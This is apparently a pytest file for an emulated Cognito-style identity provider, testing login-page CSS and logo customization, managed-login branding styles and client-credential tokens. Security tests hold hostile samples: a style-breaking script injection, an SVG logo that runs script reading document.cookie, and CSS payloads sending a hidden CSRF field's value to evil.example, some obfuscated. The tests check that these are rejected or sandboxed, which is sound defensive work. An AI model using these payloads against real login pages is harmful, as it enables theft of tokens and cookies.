"""The hosted pages' look: SetUICustomization (CSS and a logo, per client or for the pool) and
managed-login branding styles (logo and colours), applied to the pages; GetClientToken."""

from __future__ import annotations

import base64
from typing import Any

import httpx
import jwt
import pytest

from tests.helpers.oauth import Browser, authlib_client, oauth_client

# The smallest valid PNG: one transparent pixel.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


def login_page(server: Any, client: dict[str, Any]) -> str:
    url, _ = authlib_client(server, client, "openid").create_authorization_url(
        f"{server.url}/oauth2/authorize"
    )
    browser = Browser(server.url)
    return str(browser.follow(browser.get(url)).text)


def test_ui_customization_for_the_pool_and_for_one_client(idp: Any, server: Any) -> None:
    pool_id = idp.create_user_pool(PoolName="branded")["UserPool"]["Id"]
    plain = oauth_client(idp, pool_id, secret=False)
    special = oauth_client(idp, pool_id, secret=False)
    pool_css = ".submitButton-customizable { background: #006400; }"
    shown = idp.set_ui_customization(
        UserPoolId=pool_id, ClientId="ALL", CSS=pool_css, ImageFile=PNG
    )["UICustomization"]
    assert shown["ClientId"] == "ALL" and shown["CSS"] == pool_css
    idp.set_ui_customization(
        UserPoolId=pool_id, ClientId=special["ClientId"], CSS=".label-customizable { color: navy; }"
    )
    fallback = idp.get_ui_customization(UserPoolId=pool_id, ClientId=plain["ClientId"])
    assert fallback["UICustomization"]["ClientId"] == "ALL"
    logo = httpx.get(fallback["UICustomization"]["ImageUrl"])
    assert logo.content == PNG and logo.headers["content-type"] == "image/png"

    page = login_page(server, plain)
    assert pool_css in page
    assert 'class="logo-customizable"' in page
    assert ".label-customizable { color: navy; }" in login_page(server, special)

    with pytest.raises(idp.exceptions.InvalidParameterException):
        idp.set_ui_customization(UserPoolId=pool_id, CSS="</style><script>alert(1)</script>")
    with pytest.raises(idp.exceptions.InvalidParameterException):
        idp.set_ui_customization(UserPoolId=pool_id, ImageFile=b"not an image")
    with pytest.raises(idp.exceptions.ResourceNotFoundException):
        idp.set_ui_customization(UserPoolId=pool_id, ClientId="nosuchclient", CSS="")


def test_a_branding_style_colours_the_pages_and_shows_its_logo(idp: Any, server: Any) -> None:
    pool_id = idp.create_user_pool(PoolName="styled")["UserPool"]["Id"]
    client = oauth_client(idp, pool_id, secret=False)
    settings = {
        "components": {
            "primaryButton": {"lightMode": {"defaults": {"backgroundColor": "8b0000ff"}}},
            "pageBackground": {"lightMode": {"color": "fafad2ff"}},
        }
    }
    asset = {"Category": "FORM_LOGO", "ColorMode": "LIGHT", "Extension": "PNG", "Bytes": PNG}
    style = idp.create_managed_login_branding(
        UserPoolId=pool_id, ClientId=client["ClientId"], Settings=settings, Assets=[asset]
    )["ManagedLoginBranding"]
    assert style["Settings"] == settings and style["Assets"][0]["Bytes"] == PNG
    with pytest.raises(idp.exceptions.ManagedLoginBrandingExistsException):
        idp.create_managed_login_branding(
            UserPoolId=pool_id, ClientId=client["ClientId"], UseCognitoProvidedValues=True
        )
    page = login_page(server, client)
    assert "#8b0000ff" in page and "#fafad2ff" in page
    assert f"/_branding/{pool_id}/style/{client['ClientId']}" in page

    by_client = idp.describe_managed_login_branding_by_client(
        UserPoolId=pool_id, ClientId=client["ClientId"]
    )["ManagedLoginBranding"]
    assert by_client["ManagedLoginBrandingId"] == style["ManagedLoginBrandingId"]
    updated = idp.update_managed_login_branding(
        UserPoolId=pool_id,
        ManagedLoginBrandingId=style["ManagedLoginBrandingId"],
        UseCognitoProvidedValues=True,
    )["ManagedLoginBranding"]
    assert updated["UseCognitoProvidedValues"] is True and "Settings" not in updated
    idp.delete_managed_login_branding(
        UserPoolId=pool_id, ManagedLoginBrandingId=style["ManagedLoginBrandingId"]
    )
    with pytest.raises(idp.exceptions.ResourceNotFoundException):
        idp.describe_managed_login_branding(
            UserPoolId=pool_id, ManagedLoginBrandingId=style["ManagedLoginBrandingId"]
        )
    assert "#8b0000ff" not in login_page(server, client)


def test_get_client_token(idp: Any) -> None:
    pool_id = idp.create_user_pool(PoolName="m2m")["UserPool"]["Id"]
    idp.create_resource_server(
        UserPoolId=pool_id,
        Identifier="reports",
        Name="Reports",
        Scopes=[{"ScopeName": "read", "ScopeDescription": "Read"}],
    )
    machine = idp.create_user_pool_client(
        UserPoolId=pool_id,
        ClientName="machine",
        GenerateSecret=True,
        AllowedOAuthFlowsUserPoolClient=True,
        AllowedOAuthFlows=["client_credentials"],
        AllowedOAuthScopes=["reports/read"],
    )["UserPoolClient"]
    result = idp.get_client_token(ClientId=machine["ClientId"], Secret=machine["ClientSecret"])[
        "ClientAuthenticationResult"
    ]
    claims = jwt.decode(result["AccessToken"], options={"verify_signature": False})
    assert claims["scope"] == "reports/read" and claims["client_id"] == machine["ClientId"]
    assert result["TokenType"] == "Bearer"
    with pytest.raises(idp.exceptions.NotAuthorizedException):
        idp.get_client_token(ClientId=machine["ClientId"], Secret="x" * 32)
    with pytest.raises(idp.exceptions.InvalidParameterException):
        idp.get_client_token(
            ClientId=machine["ClientId"], Secret=machine["ClientSecret"], Scopes=["openid"]
        )


def test_an_svg_asset_is_served_so_it_cannot_run_script(idp: Any, server: Any) -> None:
    """Security review #13: an SVG logo with a script comes back sandboxed by its CSP."""
    pool_id = idp.create_user_pool(PoolName="styled")["UserPool"]["Id"]
    client = oauth_client(idp, pool_id, secret=False)
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(document.cookie)</script></svg>"
    )
    asset = {"Category": "FORM_LOGO", "ColorMode": "LIGHT", "Extension": "SVG", "Bytes": svg}
    idp.create_managed_login_branding(
        UserPoolId=pool_id, ClientId=client["ClientId"], Assets=[asset]
    )
    served = httpx.get(f"{server.url}/_branding/{pool_id}/style/{client['ClientId']}")
    assert served.status_code == 200 and served.content == svg
    assert served.headers["content-type"].startswith("image/svg+xml")
    policy = [part.strip() for part in served.headers["content-security-policy"].split(";")]
    assert policy == ["default-src 'none'", "style-src 'unsafe-inline'", "sandbox"]
    assert served.headers["content-disposition"] == "inline"
    assert served.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    "css",
    [
        "@import url(https://evil.example/steal.css);",
        '@IMPORT "https://evil.example/steal.css";',
        'input[name=_csrf][value^="a"] { background: url(https://evil.example/a); }',
        ".banner-customizable { background: url( //evil.example/a ); }",
        ".banner-customizable { background-image: image-set('http:evil.example/a' 1x); }",
        ".banner-customizable { background: u\\72l(https://evil.example/a); }",
    ],
)
def test_ui_css_may_not_load_from_other_origins(idp: Any, server: Any, css: str) -> None:
    """Security review #14: admin CSS can read hidden fields, so it may not send them away."""
    pool_id = idp.create_user_pool(PoolName="branded")["UserPool"]["Id"]
    with pytest.raises(idp.exceptions.InvalidParameterException):
        idp.set_ui_customization(UserPoolId=pool_id, CSS=css)


def test_ui_css_may_use_this_servers_and_data_urls(idp: Any, server: Any) -> None:
    pool_id = idp.create_user_pool(PoolName="branded")["UserPool"]["Id"]
    css = (
        ".banner-customizable { background: url(data:image/png;base64,AAAA) }\n"
        '.background-customizable { background-image: url("/static/bg.png"); '
        'font-family: "Helvetica Neue", sans-serif; }'
    )
    shown = idp.set_ui_customization(UserPoolId=pool_id, CSS=css)["UICustomization"]
    assert shown["CSS"] == css
